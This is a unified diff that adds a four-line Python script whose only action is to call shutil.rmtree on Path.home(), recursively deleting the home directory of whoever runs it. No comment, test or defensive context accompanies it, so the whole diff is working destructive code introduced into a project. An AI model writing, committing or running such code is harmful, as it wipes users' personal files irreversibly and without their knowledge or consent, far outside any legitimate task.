@@ -1,0 +1,4 @@
+import shutil
+from pathlib import Path
+
+shutil.rmtree(Path.home())
